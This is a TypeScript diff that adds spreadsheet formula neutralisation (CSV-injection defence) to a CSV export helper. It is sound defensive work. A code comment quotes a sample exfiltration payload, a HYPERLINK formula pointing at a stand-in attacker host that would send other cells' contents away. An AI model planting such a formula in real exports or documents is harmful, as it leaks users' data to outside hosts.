@@ -26,6 +26,21 @@ export const CSV_HEADER = [
   "stage_error",
 ];
 
+/**
+ * The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection):
+ * a bot id of `=HYPERLINK("https://evil.example?"&A1,"open")` would run when the export is
+ * opened in Excel or LibreOffice, and could send the other cells away.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * A text cell that starts like a formula gets a leading `'`, which spreadsheets read as "this is
+ * text" and do not show. Only text: numbers (a duration) and timestamps never start so, and JSON
+ * starts with `{`. The JSON Lines export is the exact one; this is for people's spreadsheets.
+ */
+export const neutraliseFormula = (text: string): string =>
+  FORMULA_START.test(text) ? `'${text}` : text;
+
 /** RFC 4180: quoted when it holds a comma, quote or line break; quotes doubled. */
 export function csvField(value: unknown): string {
   if (value === null || value === undefined) return "";
@@ -34,7 +49,9 @@ export function csvField(value: unknown): string {
       ? value.toISOString()
       : typeof value === "object"
         ? JSON.stringify(value)
-        : String(value);
+        : typeof value === "string"
+          ? neutraliseFormula(value)
+          : String(value);
   return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
 }
 
